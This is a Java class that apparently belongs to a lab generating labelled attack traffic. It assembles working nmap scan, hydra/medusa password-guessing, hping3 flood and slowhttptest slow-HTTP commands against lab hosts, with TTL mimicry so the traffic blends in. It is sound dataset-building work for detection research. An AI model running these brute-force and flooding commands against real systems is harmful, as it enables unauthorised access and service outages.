package org.ldpi.lab.plan;

import java.util.List;

/**
 * Attacks by the usual tools, each bounded in count and time. Where a tool would give itself away by a header field
 * that has nothing to do with what it does, such as its TTL, it is told to use the host's.
 */
final class AttackRecipes {
    static final List<Recipe> ALL = List.of(
            scan("syn-scan", "syn_scan", "-sS", false),
            scan("connect-scan", "connect_scan", "-sT", false),
            scan("fin-scan", "fin_scan", "-sF", false),
            scan("xmas-scan", "xmas_scan", "-sX", false),
            scan("null-scan", "null_scan", "-sN", false),
            scan("udp-scan", "udp_scan", "-sU", true),
            new Recipe("version-scan", List.of(), List.of("nmap"), AttackRecipes::versionScan),
            new Recipe("ssh-guess", List.of("ssh"), List.of("hydra", "medusa"), AttackRecipes::sshGuess),
            new Recipe("ftp-guess", List.of("ftp"), List.of("hydra", "medusa"), AttackRecipes::ftpGuess),
            new Recipe("http-basic-guess", List.of("http"), List.of("hydra", "medusa"), AttackRecipes::basicGuess),
            new Recipe("http-form-guess", List.of("http"), List.of("hydra"), AttackRecipes::formGuess),
            new Recipe("syn-flood", List.of("http"), List.of("hping3"), AttackRecipes::synFlood),
            new Recipe("udp-flood", List.of("dns"), List.of("hping3"), AttackRecipes::udpFlood),
            new Recipe("slow-headers", List.of("http"), List.of("slowhttptest"), draw -> slow(draw, "-H")),
            new Recipe("slow-body", List.of("http"), List.of("slowhttptest"), draw -> slow(draw, "-B")));

    private static final int LIMIT_SECONDS = 60;
    private static final String WORDS = "head -n %d \"$LAB/words.txt\" > words.txt; ";

    private AttackRecipes() {}

    private static String tool(Draw draw, String first) {
        return draw.tool().isEmpty() ? first : draw.tool();
    }

    private static Recipe scan(String name, String subtype, String mode, boolean udp) {
        return new Recipe(name, List.of(), List.of("nmap"), draw -> {
            String target = draw.address(draw.server());
            String ports;
            if (draw.chance(0.5)) {
                ports = "--top-ports " + draw.size();
            } else {
                int first = udp ? draw.between(1, 400) : draw.between(1, 60);
                ports = "-p " + first + "-" + (first + draw.size() - 1);
            }
            String script = nmap(draw, target) + " " + mode + " " + ports
                    + (udp ? " --max-retries 0" : " --max-retries 1") + " " + target;
            return new Task("malicious/information_gathering/" + subtype, "nmap", target, ports, LIMIT_SECONDS, script);
        });
    }

    private static String nmap(Draw draw, String target) {
        return "nmap -n -Pn" + (target.contains(":") ? " -6" : "") + " --ttl "
                + draw.client().ttl() + " " + draw.oneOf("-T3", "-T4", "-T4")
                + draw.oneOf("", "", " --max-rate " + draw.between(60, 300));
    }

    private static Task versionScan(Draw draw) {
        Host server = draw.server();
        String target = draw.address(server);
        StringBuilder open = new StringBuilder();
        draw.services()
                .forEach((name, endpoints) -> endpoints.stream()
                        .filter(e -> e.host().equals(server) && !name.equals("ntp"))
                        .forEach(e -> open.append(e.port()).append(',')));
        int first = draw.between(2000, 9000);
        String ports = open + "" + first + "-" + (first + draw.size());
        String script =
                nmap(draw, target) + " -sV --version-intensity " + draw.between(2, 7) + " -p " + ports + " " + target;
        return new Task("malicious/information_gathering/version_scan", "nmap", target, ports, LIMIT_SECONDS, script);
    }

    // hydra -w: a server that hangs up after some tries is tried again after seconds, not half a minute.
    private static Task sshGuess(Draw draw) {
        Draw.Endpoint server = draw.service("ssh");
        String target = server.host().ip4();
        String tool = tool(draw, "hydra");
        String user = draw.oneOf("root", "admin", "pi", "test");
        String script = WORDS.formatted(draw.size())
                + (tool.equals("medusa")
                        ? "medusa -h " + target + " -n " + server.port() + " -u " + user + " -P words.txt -M ssh -t "
                                + draw.between(2, 4)
                        : "hydra -I -w 3 -l " + user + " -P words.txt -t " + draw.between(2, 6) + " -s " + server.port()
                                + " ssh://" + target);
        return new Task("malicious/bruteforce/ssh", tool, target, "" + server.port(), LIMIT_SECONDS, script);
    }

    private static Task ftpGuess(Draw draw) {
        Draw.Endpoint server = draw.service("ftp");
        String target = server.host().ip4();
        String tool = tool(draw, "hydra");
        String script = WORDS.formatted(draw.size())
                + (tool.equals("medusa")
                        ? "medusa -h " + target + " -n " + server.port() + " -u admin -P words.txt -M ftp -t 4"
                        : "hydra -I -l admin -P words.txt -t 6 -s " + server.port() + " ftp://" + target);
        return new Task("malicious/bruteforce/ftp", tool, target, "" + server.port(), LIMIT_SECONDS, script);
    }

    private static Task basicGuess(Draw draw) {
        Draw.Endpoint server = draw.service("http");
        String target = server.host().ip4();
        String tool = tool(draw, "hydra");
        String script = WORDS.formatted(draw.size())
                + (tool.equals("medusa")
                        ? "medusa -h " + target + " -n " + server.port() + " -u "
                                + draw.site().user() + " -P words.txt -M http -m DIR:/private/ -t " + draw.between(2, 4)
                        : "hydra -I -l " + draw.site().user() + " -P words.txt -t " + draw.between(2, 6) + " -s "
                                + server.port() + " http-get://" + target + "/private/");
        return new Task("malicious/bruteforce/http", tool, target, "" + server.port(), LIMIT_SECONDS, script);
    }

    private static Task formGuess(Draw draw) {
        Draw.Endpoint server = draw.service("http");
        String target = server.host().ip4();
        String script =
                WORDS.formatted(draw.size()) + "hydra -I -l " + draw.site().user() + " -P words.txt -t "
                        + draw.between(2, 6) + " -s " + server.port() + " " + target
                        + " http-post-form '/login:user=^USER^&pass=^PASS^:F=failed'";
        return new Task("malicious/bruteforce/http", "hydra", target, "" + server.port(), LIMIT_SECONDS, script);
    }

    private static Task synFlood(Draw draw) {
        Draw.Endpoint server = draw.service("http");
        String target = server.host().ip4();
        String script = "hping3 -q -n -S -p " + server.port() + " -i u" + draw.between(2000, 12000) + " -c "
                + draw.size() + " -t " + draw.client().ttl() + draw.oneOf("", " -w 1024", " -w 64240", " -d 120") + " "
                + target;
        return new Task("malicious/dos/syn_flood", "hping3", target, "" + server.port(), LIMIT_SECONDS, script);
    }

    private static Task udpFlood(Draw draw) {
        Draw.Endpoint server = draw.service("dns");
        String target = server.host().ip4();
        int port = draw.chance(0.5) ? server.port() : draw.between(1024, 60000);
        String script = "hping3 -q -n --udp -p " + port + " -i u" + draw.between(2000, 12000) + " -c " + draw.size()
                + " -t " + draw.client().ttl() + " -d " + draw.between(16, 700) + " " + target;
        return new Task("malicious/dos/udp_flood", "hping3", target, "" + port, LIMIT_SECONDS, script);
    }

    private static Task slow(Draw draw, String mode) {
        Draw.Endpoint server = draw.service("http");
        String target = server.host().ip4();
        String script = "slowhttptest " + mode + " -c " + draw.size() + " -i " + draw.between(2, 4) + " -r "
                + draw.between(6, 20) + " -l " + draw.between(18, 30) + " -x " + draw.between(10, 40)
                + " -p 3 -t " + (mode.equals("-B") ? "POST" : "GET") + " -u http://" + target + ":" + server.port()
                + "/"
                + draw.oneOf(draw.site().pages()).folder() + "/index.html";
        return new Task("malicious/dos/slow_http", "slowhttptest", target, "" + server.port(), LIMIT_SECONDS, script);
    }
}
